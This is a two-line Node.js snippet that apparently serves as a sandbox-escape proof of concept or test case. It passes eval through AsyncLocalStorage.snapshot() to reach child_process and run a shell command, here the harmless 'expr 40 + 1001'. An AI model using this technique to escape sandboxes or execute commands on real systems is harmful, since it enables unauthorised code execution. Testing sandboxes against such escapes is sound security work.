const {AsyncLocalStorage}=require('async_hooks');
AsyncLocalStorage.snapshot()(eval,'process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})');
